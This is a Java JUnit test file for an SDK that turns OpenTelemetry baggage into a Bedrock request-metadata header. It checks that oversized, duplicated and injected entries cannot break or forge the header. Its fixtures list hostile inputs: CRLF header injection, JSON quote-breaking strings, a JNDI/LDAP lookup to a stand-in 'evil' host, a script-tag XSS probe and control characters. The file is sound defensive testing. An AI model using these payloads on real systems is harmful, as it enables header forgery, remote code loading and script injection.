package io.bedrockotel.sdk;

import static java.util.stream.Collectors.joining;
import static org.assertj.core.api.Assertions.assertThat;

import io.bedrockotel.metadata.KeyRule;
import io.bedrockotel.metadata.Metadata;
import io.bedrockotel.metadata.MetadataPolicy;
import io.opentelemetry.api.baggage.Baggage;
import io.opentelemetry.api.baggage.BaggageBuilder;
import java.io.IOException;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.IntFunction;
import java.util.stream.Stream;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import software.amazon.awssdk.thirdparty.jackson.core.JsonFactory;
import software.amazon.awssdk.thirdparty.jackson.core.JsonParser;
import software.amazon.awssdk.thirdparty.jackson.core.JsonToken;
import software.amazon.awssdk.thirdparty.jackson.core.StreamReadFeature;

/** Baggage that somebody sent to do harm: what of it gets into the header, and what never does. */
@Timeout(60)
class HostileBaggageTest {
  private static final int MEGABYTE = 1 << 20;
  private static final int CROWD = 10_000;
  private static final int LONGEST_HEADER = 8_192;
  private static final String ACCEPTED = "[a-zA-Z0-9 ._:/=+@-]{1,256}";
  private static final Map<String, String> OPERATOR =
      Map.of("team", "search", "cost_center", "CC-42");
  private static final Map<String, String> TRACE =
      Map.of("trace_id", "0af7651916cd43dd8448eb211c80319c", "span_id", "b7ad6b7169203331");
  private static final JsonFactory STRICT =
      JsonFactory.builder().enable(StreamReadFeature.STRICT_DUPLICATE_DETECTION).build();

  private final MetadataPolicy policy =
      MetadataPolicy.builder()
          .operator(OPERATOR)
          .baggageRules(
              Stream.of("team", "cost_center", "tenant_id", "tenant:tenant_id", "user_id", "x-*")
                  .map(KeyRule::parse)
                  .toList())
          .hashed(Set.of("user_id"), "secret")
          .build();

  @ParameterizedTest
  @MethodSource({"large", "injected", "doubled", "unasked"})
  void headerIsOneSoundObjectOfTheOperators(Baggage baggage) throws IOException {
    MetadataText text = MetadataText.of(List.of());
    Metadata sent = text.fitting(policy.resolve(Map.of(), baggage, TRACE));
    String header = text.with(sent.entries());

    assertThat(header).hasSizeLessThanOrEqualTo(LONGEST_HEADER).matches("[ -~]*");
    assertThat(read(header))
        .isEqualTo(sent.entries())
        .containsAllEntriesOf(OPERATOR)
        .hasSizeLessThanOrEqualTo(16)
        .allSatisfy(
            (key, value) -> {
              assertThat(key).matches(ACCEPTED);
              assertThat(value).matches(ACCEPTED);
            });
  }

  @ParameterizedTest
  @MethodSource({"large", "injected", "doubled"})
  void hostileBaggageIsReallyLookedAt(Baggage baggage) {
    Metadata sent = policy.resolve(Map.of(), baggage, Map.of());

    assertThat(sent.entries().size() > OPERATOR.size() || !sent.adjustments().isEmpty()).isTrue();
  }

  @ParameterizedTest
  @MethodSource("unasked")
  void whatNobodyAskedForChangesNothing(Baggage baggage) {
    Metadata sent = policy.resolve(Map.of(), baggage, Map.of());

    assertThat(sent.entries()).isEqualTo(OPERATOR);
    assertThat(sent.adjustments()).isEmpty();
  }

  @ParameterizedTest
  @MethodSource({"large", "injected", "doubled", "unasked"})
  void applicationsTextStandsAsItIs(Baggage baggage) throws IOException {
    String own = "{ \"order\" : \"42\", \"team\":\"the application's\"";
    MetadataText text = MetadataText.of(List.of(own + "}"));
    Metadata sent = text.fitting(policy.resolve(text.ownEntries(), baggage, TRACE));
    String header = text.with(sent.entries());

    assertThat(header).startsWith(own + ",").hasSizeLessThanOrEqualTo(LONGEST_HEADER);
    assertThat(read(header))
        .isEqualTo(sent.entries())
        .containsAllEntriesOf(text.ownEntries())
        .containsEntry("cost_center", "CC-42")
        .hasSizeLessThanOrEqualTo(16);
  }

  @Test
  void idsOfTheTraceCannotBeForged() {
    MetadataPolicy copying =
        MetadataPolicy.builder()
            .baggageRules(Stream.of("t*", "span_*", "s*").map(KeyRule::parse).toList())
            .build();
    Baggage baggage =
        Baggage.builder().put("trace_id", "0").put("span_id", "0").put("span_x", "1").build();

    assertThat(copying.resolve(Map.of(), baggage, TRACE).entries())
        .containsAllEntriesOf(TRACE)
        .containsEntry("span_x", "1");
  }

  /** The header as a strict reader sees it, which refuses a key that comes twice. */
  private static Map<String, String> read(String header) throws IOException {
    Map<String, String> entries = new LinkedHashMap<>();
    try (JsonParser json = STRICT.createParser(header)) {
      assertThat(json.nextToken()).isEqualTo(JsonToken.START_OBJECT);
      while (json.nextToken() == JsonToken.FIELD_NAME) {
        assertThat(json.nextToken()).isEqualTo(JsonToken.VALUE_STRING);
        entries.put(json.currentName(), json.getText());
      }
      assertThat(json.currentToken()).isEqualTo(JsonToken.END_OBJECT);
      assertThat(json.nextToken()).isNull();
    }
    return entries;
  }

  static Stream<Named<Baggage>> large() {
    return Stream.of(
        one("a value of 1 MB", "tenant_id", "v".repeat(MEGABYTE)),
        one("a value of 1 MB to hash", "user_id", "v".repeat(MEGABYTE)),
        one("1 MB of line ends", "tenant_id", "\r\n".repeat(MEGABYTE / 2)),
        one("1 MB of dots behind an at sign", "tenant_id", "a@" + ".".repeat(MEGABYTE)),
        one("1 MB of words that look like a host", "tenant_id", "a@" + ".a".repeat(MEGABYTE) + "@"),
        one("1 MB of digits", "tenant_id", "4 ".repeat(MEGABYTE) + "x"),
        one("1 MB of a phone number", "tenant_id", "+1 " + "(.-) ".repeat(MEGABYTE / 5) + "x"),
        one("1 MB that begins like a JWT", "tenant_id", "eyJ" + "a.".repeat(MEGABYTE / 2)),
        one("1 MB that begins like an IBAN", "tenant_id", "DE89" + " 3".repeat(MEGABYTE / 2)),
        one("a key of 1 MB", "x-" + "k".repeat(MEGABYTE), "v"),
        one("a key of 1 MB of words", "x-" + "token_".repeat(MEGABYTE / 6), "v"),
        crowd("10,000 keys that are copied", i -> "x-" + i, "v"),
        crowd("10,000 keys to adjust", i -> "x-" + i + "\u00fc", "v".repeat(100)),
        crowd("10,000 long keys", i -> "x-" + i + "k".repeat(300), "v".repeat(300)),
        crowd("10,000 keys of secrets", i -> "x-token-" + i, "v"));
  }

  static Stream<Named<Baggage>> injected() {
    return Stream.of(
            "acme\r\nX-Amzn-Bedrock-Request-Metadata: {\"cost_center\":\"CC-0\"}",
            "acme\n",
            "\r\n\r\n{}",
            "acme\u0085\u2028\u2029",
            "acme\",\"cost_center\":\"CC-0",
            "\"}",
            "\"},{\"",
            "\\\",\"team\":\"evil\",\"x\":\"\\",
            "\\",
            "\\u0022,\\u0022team\\u0022:\\u0022evil",
            "{\"cost_center\":\"CC-0\"}",
            "/* */ // '",
            "\u0000\u0001\u001b[31m\u007f",
            "${jndi:ldap://evil/a} #{1+1} %s%n {0}",
            "<script>alert(1)</script>")
        .map(text -> one("as value and key: " + text, "tenant_id", text, "x-" + text, text));
  }

  static Stream<Named<Baggage>> doubled() {
    return Stream.of(
        one("a key twice", "tenant_id", "one", "tenant_id", "two", "tenant", "three"),
        one("keys that are alike once adjusted", "x-\u00fc", "1", "x-\u00f6", "2", "x-_", "3"));
  }

  static Stream<Named<Baggage>> unasked() {
    return Stream.of(
        one("the operator's keys", "cost_center", "CC-0", "team", "evil"),
        one("other cases", "COST_CENTER", "CC-0", "Cost_Center", "CC-0", " cost_center ", "CC-0"),
        crowd("10,000 keys that nobody asked for", i -> "other" + i, "v"));
  }

  private static Named<Baggage> one(String name, String... keysAndValues) {
    BaggageBuilder baggage = Baggage.builder();
    for (int i = 0; i < keysAndValues.length; i += 2) {
      baggage.put(keysAndValues[i], keysAndValues[i + 1]);
    }
    return Named.of(printable(name), baggage.build());
  }

  private static Named<Baggage> crowd(String name, IntFunction<String> key, String value) {
    BaggageBuilder baggage = Baggage.builder();
    for (int i = 0; i < CROWD; i++) {
      baggage.put(key.apply(i), value);
    }
    return Named.of(name, baggage.build());
  }

  private static String printable(String name) {
    return name.codePoints()
        .mapToObj(c -> c >= ' ' && c <= '~' ? Character.toString(c) : "\\u%04x".formatted(c))
        .collect(joining());
  }
}
